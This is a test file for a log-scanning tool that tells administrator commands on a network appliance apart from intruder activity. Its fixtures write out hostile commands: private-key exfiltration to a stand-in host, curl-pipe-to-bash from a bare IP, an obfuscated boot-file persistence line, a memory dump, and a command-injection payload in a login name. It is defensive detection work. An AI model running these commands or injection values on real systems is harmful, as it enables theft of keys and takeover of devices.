import { expect, test } from 'vitest';
import { accessLine, evidence, nsLine, shellLine } from '../fixtures/evidence.ts';
import { scanSource } from '../fixtures/scan-sample.ts';

/**
 * An intruder with a terminal types what administrators type. What only he types keeps its level whoever is named; the rest is context, until
 * something else speaks against the person: two such deeds within an hour, or an address that attacked.
 */

const collected = new Date('2026-11-23T09:30:12Z');
const intruder = '198.51.100.99';

async function told(files: Readonly<Record<string, string>>): Promise<readonly string[]> {
  // Logs without a year take it from the time of their file.
  const dated = Object.entries(files).map(([path, content]) => [path, { content, modified: collected }] as const);
  const report = await scanSource(evidence(Object.fromEntries(dated), { collected }), collected.getTime());
  return report.findings.map(({ rule }) => `${rule.level} ${rule.shows} ${rule.name}`).sort();
}

/** Commands of `nsroot` at a terminal, two minutes apart. */
const typed = (...commands: readonly string[]): string =>
  commands
    .map((command, index) => shellLine({ command, clock: `Nov 23 09:${String(index * 2).padStart(2, '0')}:00` }))
    .join('\n');

const command = (text: string, from: string, minute: number): string =>
  nsLine({
    clock: `Nov 23 09:${minute}:00`,
    device: `11/23/2026:08:${minute}:00`,
    payload: `User nsroot - ADM_User NONE - Remote_ip ${from} - Command "${text}" - Status "Success"`,
  });

test.each([
  { name: 'a private key shown', text: 'cat /nsconfig/ssl/www.key' },
  { name: 'a checking tool fetched and run', text: 'curl -s https://downloads.example.org/check.sh | bash' },
  { name: 'a line added to a boot file', text: 'echo nsapimgr -ys x=1 >> /nsconfig/rc.netscaler' },
  { name: 'a look at who answers', text: 'nmap -sT 192.0.2.9' },
  { name: 'a test of the LDAP settings', text: 'ldapsearch -x -H ldaps://192.0.2.50 -D svc -W -b dc=x "(cn=a)"' },
  { name: 'a core for the support', text: 'gcore -c /var/core/aaad.core 1295' },
  { name: 'a trace offered to a colleague', text: 'cd /var/nstrace; python3 -m http.server 8000' },
])('$name by a named user is context', async ({ text }) => {
  const findings = await told({ '/var/log/bash.log': typed(text) });
  expect(findings.filter((finding) => !/^(?:informational|low) context /.test(finding))).toEqual([]);
  expect(findings.some((finding) => finding.endsWith('_by_administrator'))).toBe(true);
});

test.each([
  { name: 'a private key sent away', text: 'curl -F f=@/nsconfig/ssl/www.key https://files.example.net/' },
  { name: 'a script from a bare address', text: 'curl -s http://198.51.100.9/a.sh | bash' },
  { name: 'a reversed line in a boot file', text: "echo 'hs/nib/ 5574' | rev >> /nsconfig/rc.netscaler" },
  { name: 'a scan in the background', text: 'nohup nmap -sT 192.0.2.0/24 &' },
  {
    name: 'a dump of all computers',
    text: 'ldapsearch -x -H ldap://192.0.2.5 -D a -w b -b dc=x "(objectClass=computer)"',
  },
  { name: 'the memory of the machine', text: 'dd if=/dev/mem of=/var/tmp/m bs=1m' },
  { name: 'the configuration offered to all', text: 'cd /nsconfig; python3 -m http.server 8000' },
])('$name is suspicious whoever is named', async ({ text }) => {
  const findings = await told({ '/var/log/bash.log': typed(text) });
  expect(findings.some((finding) => /^(?:medium|high|critical) suspicious /.test(finding))).toBe(true);
});

test('two deeds of one user within an hour are more than context', async () => {
  const findings = await told({ '/var/log/bash.log': typed('nmap -sT 192.0.2.9', 'cat /nsconfig/ssl/www.key') });
  expect(findings).toContain('medium suspicious scan_and_keys_by_one_user');
});

test.each([
  {
    name: 'a poisoned name',
    log: '/var/log/ns.log',
    line: nsLine({
      clock: 'Nov 23 09:10:00',
      device: '11/23/2026:08:10:00',
      module: 'AAA',
      event: 'LOGIN_FAILED',
      payload: `User pitboss PPE unexpectedly died NSPPE;echo$IFS$9sample;# X - Client_ip ${intruder} - Failure_reason "denied" - Browser x`,
    }),
    rule: 'commands_after_poisoned_name',
  },
  {
    name: 'an answered PHP page',
    log: '/var/log/httpaccess-vpn.log',
    line: accessLine({
      client: intruder,
      clock: '23/Nov/2026:09:10:00 +0100',
      request: 'POST /logon/LogonPoint/custom/a.php HTTP/1.1',
    }),
    rule: 'commands_after_php_page',
  },
])('commands from the address of $name are suspicious', async ({ log, line, rule }) => {
  const logs = (from: string): Readonly<Record<string, string>> =>
    log === '/var/log/ns.log'
      ? { [log]: `${line}\n${command('shell', from, 40)}\n` }
      : { [log]: `${line}\n`, '/var/log/ns.log': `${command('shell', from, 40)}\n` };
  expect(await told(logs(intruder))).toContain(`high suspicious ${rule}`);
  expect((await told(logs('203.0.113.7'))).filter((finding) => finding.includes('commands_after'))).toEqual([]);
});
